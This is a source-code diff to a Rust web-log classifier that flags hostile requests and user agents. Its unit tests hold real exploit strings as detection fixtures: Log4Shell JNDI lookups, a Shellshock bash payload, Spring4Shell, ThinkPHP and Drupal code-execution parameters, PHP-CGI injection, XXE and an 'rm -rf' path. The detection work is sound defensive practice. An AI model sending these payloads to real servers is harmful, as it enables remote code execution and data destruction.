@@ -6,10 +6,12 @@ use aho_corasick::{AhoCorasick, AhoCorasickKind, Span};
 
 use crate::math::hash::Hasher;
 use crate::record::event::{flag, folders};
+use crate::record::exploits::{COMMANDS, COMMANDS_OF_CLIENTS, DOORS};
 use crate::record::lexicon::{
     ASSETS, DECLARED, DECLARED_ADDRESSES, DECLARED_NAMES, FETCHERS, HOSTILE, LOGIN, MISREAD, TOKEN,
     TOOLS,
 };
+use crate::record::sought::{SCRIPTS, SOUGHT};
 use crate::store::cache::Cache;
 
 /// Bytes of one text that are searched for words; a longer one is cut.
@@ -98,6 +100,9 @@ static OF_ADDRESS: LazyLock<Words> = LazyLock::new(|| {
         (LOGIN, flag::AUTH, Place::NotInBlog),
         (TOKEN, flag::TOKEN, Place::Alone),
         (HOSTILE, flag::HOSTILE, Place::Anywhere),
+        (DOORS, flag::HOSTILE, Place::Anywhere),
+        (COMMANDS, flag::HOSTILE | flag::COMMAND, Place::Anywhere),
+        (SOUGHT, flag::SOUGHT, Place::Anywhere),
         (MISREAD, flag::MISREAD, Place::Anywhere),
     ])
 });
@@ -108,6 +113,7 @@ static OF_AGENT: LazyLock<Words> = LazyLock::new(|| {
         (DECLARED_NAMES, flag::DECLARED_BOT, Place::EndOfName),
         (DECLARED_ADDRESSES, flag::DECLARED_BOT, Place::Told),
         (TOOLS, flag::HOSTILE, Place::Anywhere),
+        (COMMANDS_OF_CLIENTS, flag::HOSTILE | flag::COMMAND, Place::Anywhere),
     ])
 });
 
@@ -144,8 +150,9 @@ impl Classes {
             let is_named = named.iter().any(|path| is_named_by(path, text));
             let flags = of_address(text)
                 | flag_if(is_named, flag::AUTH)
-                | flag_if(is_asset(text), flag::ASSET);
-            let hash_of = |text: &str| if text.is_empty() { 0 } else { hasher.text(text) };
+                | flag_if(ends_in(text, ASSETS), flag::ASSET)
+                | flag_if(ends_in(text, SCRIPTS), flag::SCRIPT);
+            let hash_of = |text: &str| if text.is_empty() { 0 } else { hasher.path(text) };
             let shape = shape(text).map_or(0, |shape| hasher.short(&shape));
             (flags, shape, folders(text).map(hash_of))
         };
@@ -157,8 +164,8 @@ impl Classes {
         if hash == 0 {
             return 0;
         }
-        // An address in a query is asked for on purpose.
-        self.queries.get_or(hash, || of_address(text) & !flag::MISREAD).0
+        // An address in a query is asked for on purpose, and searches are for paths.
+        self.queries.get_or(hash, || of_address(text) & !(flag::MISREAD | flag::SOUGHT)).0
     }
 }
 
@@ -210,11 +217,25 @@ fn add_numbers(word: &[u8], shape: &mut Vec<u8>) {
     }
 }
 
-fn is_asset(path: &str) -> bool {
+/// Whether a referer begins as none does: with what a logging library or an old shell would run.
+pub fn is_command(referer: &str) -> bool {
+    // Every other begins with a letter or a dash.
+    matches!(referer.as_bytes().first(), Some(b'$' | b'('))
+        && COMMANDS_OF_CLIENTS.iter().any(|word| starts_with(referer, word))
+}
+
+fn starts_with(text: &str, word: &str) -> bool {
+    text.as_bytes()
+        .get(..word.len())
+        .is_some_and(|beginning| beginning.eq_ignore_ascii_case(word.as_bytes()))
+}
+
+/// Whether a path has one of these extensions.
+fn ends_in(path: &str, extensions: &[&str]) -> bool {
     let tail = &path.as_bytes()[path.len().saturating_sub(12)..];
     let Some(dot) = tail.iter().rposition(|byte| *byte == b'.') else { return false };
     let extension = &tail[dot + 1..];
-    ASSETS.iter().any(|asset| extension.eq_ignore_ascii_case(asset.as_bytes()))
+    extensions.iter().any(|known| extension.eq_ignore_ascii_case(known.as_bytes()))
 }
 
 #[cfg(test)]
@@ -222,7 +243,7 @@ mod tests {
     use super::*;
 
     fn address(text: &str) -> u32 {
-        of_address(text) | flag_if(is_asset(text), flag::ASSET)
+        of_address(text) | flag_if(ends_in(text, ASSETS), flag::ASSET)
     }
 
     #[test]
@@ -242,10 +263,32 @@ mod tests {
         for token in ["/oauth/token", "/api/v1/auth", "grant=2fa", "/session/new"] {
             assert_eq!(address(token), flag::TOKEN, "{token}");
         }
-        for hostile in
-            ["id=1%27%20OR%201", "/cgi-bin/..%2f..%2fetc", "x=%3CScript%3e", "q=${jndi:ldap://x}"]
-        {
+        for hostile in [
+            "id=1%27%20OR%201",
+            "/cgi-bin/..%2f..%2fetc",
+            "x=%3CScript%3e",
+            "/vendor/phpunit/src/Util/PHP/eval-stdin.php",
+            "/wls-wsat/CoordinatorPortType",
+            "email=autodiscover/autodiscover.json%3f@a.example",
+        ] {
             assert_eq!(address(hostile), flag::HOSTILE, "{hostile}");
+        }
+        for command in [
+            "q=${jndi:ldap://x}",
+            "x=%24%7B%24%7Blower:j%7Dndi",
+            "q=user/7&name[%23post_render][]=passthru&name[%23markup]=id",
+            "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.x",
+            "s=/Index/\\think\\app/invokefunction&vars[0]=phpinfo",
+            "filter=exec(java.lang.Runtime.getRuntime(),%27id%27)",
+            "/shell;cd%20/tmp;rm%20-rf%20x",
+            "-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
+            "xml=%3C!DOCTYPE%20a%20%5B%3C!ENTITY",
+        ] {
+            let flags = address(command) & !(flag::AUTH | flag::SOUGHT);
+            assert_eq!(flags, flag::HOSTILE | flag::COMMAND, "{command}");
+        }
+        for sought in ["/backup7", "/db.sql", "/wso2.php", "/admin/upload.aspx", "/phpMyAdmin/"] {
+            assert_eq!(address(sought), flag::SOUGHT, "{sought}");
         }
         for misread in ["/https:/other.example/a", "/a/http://other.example", "//www.other.example"]
         {
@@ -259,6 +302,10 @@ mod tests {
             "",
             "/author/x",
             "/footprint",
+            "/maven2/org/springframework/core",
+            "/cgi-bin/luci/;stok=8d2f/admin",
+            "/video/mp4",
+            "q=how+to+select+all+'quoted'+rows",
             "/get_bloginfo",
             "/cart",
             "next=http://localhost:3000/",
@@ -315,6 +362,17 @@ mod tests {
         {
             assert_eq!(of_agent(tool), flag::HOSTILE, "{tool}");
         }
+        for agent in
+            ["() { :; }; /bin/bash -c id", "${jndi:dns://x}", "Mozilla/5.0 ${${lower:j}ndi"]
+        {
+            assert_eq!(
+                of_agent(agent) & !flag::DECLARED_BOT,
+                flag::HOSTILE | flag::COMMAND,
+                "{agent}"
+            );
+        }
+        assert!(is_command("${JNDI:ldap://x}") && is_command("() { :;};"));
+        assert!(!is_command("https://a.example/${jndi") && !is_command("-") && !is_command(""));
         assert_eq!(of_agent("python-requests/2.31.0"), 0);
         assert_eq!(
             of_agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0.0.0 Safari/537.36"),
